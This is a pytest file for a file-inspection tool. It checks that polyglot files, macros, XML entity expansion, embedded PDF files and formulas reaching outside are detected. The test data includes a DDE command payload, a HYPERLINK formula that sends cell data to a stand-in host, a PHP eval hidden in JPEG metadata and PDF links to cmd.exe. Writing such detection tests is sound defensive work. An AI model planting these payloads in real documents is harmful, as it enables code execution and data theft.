"""Active content that hides: formulas that reach outside, what hangs behind the end of a file, files nobody lists."""

from __future__ import annotations

import struct
from email.message import EmailMessage
from pathlib import Path

import pytest
import xlsxwriter
from pikepdf import Array, Dictionary, Name, Pdf, String

from flows.findings import load_catalogue
from flows.gather.formulas_active import active_in_formulas, has_remote_formula
from flows.gather.names import is_program_name
from flows.model import Condition, Media
from tests.gather.kit import junk, packed, pdf, picture, word, workbook
from tests.gather.spoilt_office import entities, outside, with_named
from tests.gather.test_active import RELATION, action, changed, look, with_note

STRINGS, SHEET, TEXT = "xl/sharedStrings.xml", "xl/worksheets/sheet1.xml", "word/document.xml"
PROGRAM = b"MZ" + b"\0" * 58 + struct.pack("<I", 64) + b"PE\0\0" + b"\0" * 500
JPEG, PNG, GIF = picture("JPEG", (200, 160)), picture("PNG", (200, 160)), picture("GIF", (200, 160))
PDF = pdf(["Laporan contoh"])
DEEP = (
    JPEG[:2] + b"\xff\xe2" + struct.pack(">H", 20_002) + b"\0" * 10_000 + b"<?php eval(1); ?>".ljust(10_000) + JPEG[2:]
)
BEHIND: dict[str, tuple[str, bytes, tuple[str, ...]]] = {
    "program behind a jpeg": ("a.jpg", JPEG + PROGRAM, ("polyglot-program",)),
    "program behind a png": ("a.png", PNG + b"\x7fELF" + b"\0" * 99, ("polyglot-program",)),
    "program behind a gif": ("a.gif", GIF + PROGRAM, ("polyglot-program",)),
    "program behind a pdf": ("a.pdf", PDF + PROGRAM, ("polyglot-program",)),
    "archive behind a jpeg": ("a.jpg", JPEG + b"Rar!\x1a\x07\x01\0" + b"x" * 99, ("polyglot-archive",)),
    "pdf behind a jpeg": ("a.jpg", JPEG + PDF, ("polyglot-pdf",)),
    "zip behind a jpeg": ("a.jpg", JPEG + packed({"a.txt": b"isi"}), ("polyglot-zip",)),
    "script in the notes": ("a.jpg", DEEP, ("polyglot-html",)),
    "second picture of a telephone": ("a.jpg", JPEG + JPEG, ()),
    "notes of a camera": ("a.jpg", JPEG + b"\0\0SEFT" + junk(900), ()),
    "letters that look like a program": ("a.jpg", JPEG + b"MZ" + junk(900), ()),
    "pdf with a later version": ("a.pdf", PDF + PDF, ()),
    "pdf with filling": ("a.pdf", PDF + b"\0" * 900, ()),
}


@pytest.mark.parametrize("case", BEHIND)
def test_what_hangs_behind_the_end_is_told(tmp_path: Path, case: str) -> None:
    name, content, expected = BEHIND[case]
    assert look(tmp_path, name, content).active == expected


UNFOLDING: dict[str, tuple[str, bytes]] = {
    "shared texts": ("a.xlsx", with_named(workbook([["Laporan", 1]]), {STRINGS: entities(b"<sst>&j;</sst>")})),
    "figures": ("a.xlsx", with_named(workbook([["Laporan", 1]]), {SHEET: entities(b"<worksheet>&j;</worksheet>")})),
    "text": ("a.docx", with_named(word("Laporan"), {TEXT: entities(b"<w>&j;</w>")})),
    "text of a file elsewhere": ("a.docx", with_named(word("Laporan"), {TEXT: outside(b"<w>&j;</w>")})),
    "slide": ("a.pptx", packed({"ppt/slides/slide1.xml": entities(b"<p>&j;</p>")})),
}


@pytest.mark.parametrize("case", UNFOLDING)
def test_an_office_file_that_unfolds_is_told_whether_it_can_be_read_or_not(tmp_path: Path, case: str) -> None:
    """Called damaged and nothing else, it would be asked for again, and opened by hand meanwhile."""
    assert look(tmp_path, *UNFOLDING[case]).active == ("xml-entities",)


def test_a_damaged_file_still_says_that_it_has_macros(tmp_path: Path) -> None:
    content = with_named(workbook([["Laporan", 1]]), {"xl/workbook.xml": b"<", "xl/vbaProject.bin": b"x"})
    found = look(tmp_path, "a.xlsm", content)
    assert (found.condition, found.active) == (Condition.DAMAGED, ("macro",))


def with_hidden_file(document: Pdf) -> None:
    stream = document.make_stream(b"isi", Type=Name.EmbeddedFile)
    document.Root.Lain = document.make_indirect(
        Dictionary(Type=Name.Filespec, F=String("x.zip"), EF=Dictionary(F=stream))
    )


def with_bare_file(document: Pdf) -> None:
    document.Root.Lain = document.make_stream(b"isi", Type=Name.EmbeddedFile)


def with_file_of_a_drawing(document: Pdf) -> None:
    drawing = document.make_stream(b"", Type=Name.XObject, Subtype=Name.Form, BBox=Array([0, 0, 1, 1]))
    stream = document.make_stream(b"isi", Type=Name.EmbeddedFile)
    drawing.AF = Array([Dictionary(Type=Name.Filespec, F=String("x.zip"), EF=Dictionary(F=stream))])
    document.pages[0].Resources.XObject = Dictionary(X1=drawing)


@pytest.mark.parametrize("change", [with_hidden_file, with_bare_file, with_file_of_a_drawing])
def test_a_file_in_a_pdf_that_no_list_names_is_told(tmp_path: Path, change: object) -> None:
    assert look(tmp_path, "a.pdf", changed(change)).active == ("embedded-file",)  # type: ignore[arg-type]


@pytest.mark.parametrize(
    ("address", "expected"),
    [
        ("file:///c:/windows/system32/cmd.exe", ("pdf-remote",)),
        ("\\\\server\\bagian\\a.exe", ("pdf-remote",)),
        ("data:text/html,<script>", ("pdf-javascript",)),
        ("https://contoh.invalid/file:", ()),
        ("mailto:dinas@contoh.invalid", ()),
        ("#halaman", ()),
    ],
)
def test_a_link_to_the_readers_own_computer_is_told(tmp_path: Path, address: str, expected: tuple[str, ...]) -> None:
    note = with_note(Subtype=Name.Link, A=action("URI", URI=String(address)))
    assert look(tmp_path, "a.pdf", changed(note)).active == expected


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ('Nama;Jumlah\n=WEBSERVICE("http://contoh.invalid");1', True),
        ('Nama,Jumlah\n"=HYPERLINK(""http://contoh.invalid?a=""&A1,""klik"")",1', True),
        ("a;b\n=importxml(A1);2", True),
        ("a;b\n+1+IMAGE(A1);2", True),
        ("Nama;Jumlah\nKegiatan image (gambar);1", False),
        ("Nama;Jumlah\n=SUM(A1:A2);1\n=JUMLAH(B1);-5\n+62 811;2", False),
        ("Lihat HYPERLINK(alamat) pada Excel = tautan", False),
    ],
)
def test_formulas_that_reach_outside_are_told_of_a_text(text: str, expected: bool) -> None:  # noqa: FBT001
    assert has_remote_formula(text.encode()) is expected


def test_formulas_that_reach_outside_are_told_of_a_workbook(tmp_path: Path) -> None:
    path = tmp_path / "a.xlsx"
    with xlsxwriter.Workbook(path) as book:
        sheet = book.add_worksheet()
        sheet.write_row(0, 0, ["Kecamatan", "Jumlah"])
        sheet.write_formula(1, 0, '=_xlfn.WEBSERVICE("http://contoh.invalid")')
        sheet.write_formula(1, 1, "=SUM(A1:A900)")
    assert look(tmp_path, "a.xlsx", path.read_bytes()).active == ("remote-formula",)
    assert active_in_formulas(b"SUM(A1:A900)\nHYPERLINK(&quot;#a&quot;)\nIF(A1=&quot;|&quot;,1,2)") == ()
    assert active_in_formulas(b"cmd|'/c calc'!A0") == ("dde",)


def test_an_object_that_starts_another_program_is_told(tmp_path: Path) -> None:
    """Such a document never goes untouched: unlike a link to a workbook, what it asks for is carried out."""
    relation = RELATION % "oleObject"
    assert look(tmp_path, "a.docx", with_relation(relation)).active == ("external-link",)
    starting = relation.replace(
        "https://contoh.invalid/x", "mhtml:https://contoh.invalid/x!x-usc:https://contoh.invalid"
    )
    assert look(tmp_path, "a.docx", with_relation(starting)).active == ("remote-object", "external-link")


def with_relation(relation: str) -> bytes:
    """A document with one more list of relations."""
    import io
    import zipfile

    from tests.gather.kit import word

    target = io.BytesIO(word("Laporan"))
    with zipfile.ZipFile(target, "a") as archive:
        archive.writestr("word/_rels/tambahan.xml.rels", relation)
    return target.getvalue()


def test_connections_of_a_workbook_are_told(tmp_path: Path) -> None:
    for part, content in (
        ("xl/connections.xml", b"<connections/>"),
        ("xl/queryTables/queryTable1.xml", b"<queryTable/>"),
        ("customXml/item1.xml", "<DataMashup>".encode("utf-16")),
    ):
        found = look(tmp_path, "a.xlsx", packed_with(part, content))
        assert found.active == ("data-connection",), part


def packed_with(name: str, content: bytes) -> bytes:
    """A workbook with one more part."""
    import io
    import zipfile

    from tests.gather.kit import workbook

    target = io.BytesIO(workbook([["a", "b"], ["c", "d"]]))
    with zipfile.ZipFile(target, "a") as archive:
        archive.writestr(name, content)
    return target.getvalue()


def test_what_a_message_brings_along_is_named(tmp_path: Path) -> None:
    message = EmailMessage()
    message["Subject"], message["From"] = "Kiriman data", "dinas@contoh.invalid"
    message.set_content("Terlampir")
    for name in ("rekap anak.xlsx", "9971014505120001.pdf"):
        message.add_attachment(b"isi", maintype="application", subtype="octet-stream", filename=name)
    found = look(tmp_path, "a.eml", message.as_bytes())
    assert found.active == ("embedded-file: rekap anak.xlsx", "embedded-file: 9971••••••••0001.pdf")


def test_the_image_of_a_disc_is_refused_whatever_its_name(tmp_path: Path) -> None:
    disc = b"\0" * 32_768 + b"\x01CD001\x01\0" + b"\0" * 4000
    for name in ("a.pdf", "a.iso", "tanpa akhiran"):
        found = look(tmp_path, name, disc)
        assert (found.condition, found.detail) == (Condition.REFUSED, "executable")


@pytest.mark.parametrize(("kind", "active"), [(0x10, ()), (0x40, ("xlm-macro",))])
@pytest.mark.parametrize("version", [0x0009, 0x0209, 0x0409])
def test_a_workbook_of_the_first_excel_is_called_so(tmp_path: Path, version: int, kind: int, active: object) -> None:
    begin = struct.pack("<HHHH", version, 4 if version == 9 else 6, 0, kind) + (b"" if version == 9 else b"\0\0")
    number = struct.pack("<HHHHHd", 0x0203, 14, 0, 0, 0, 12.0)
    found = look(tmp_path, "a.xls", begin + number + struct.pack("<HH", 0x0A, 0))
    assert (found.condition, found.media, found.detail) == (Condition.REFUSED, Media.SPREADSHEET, "too-old")
    assert found.active == active


def test_files_that_open_something_else_are_programs_by_name() -> None:
    names = ("a.slk", "a.iqy", "a.settingcontent-ms", "a.library-ms", "a.vhdx", "laporan.pdf.msc")
    assert all(map(is_program_name, names))


def test_all_that_is_told_has_words() -> None:
    told = {"data-connection", "remote-formula", "polyglot-program", "polyglot-archive", "polyglot-office"}
    assert told <= load_catalogue().active.keys()
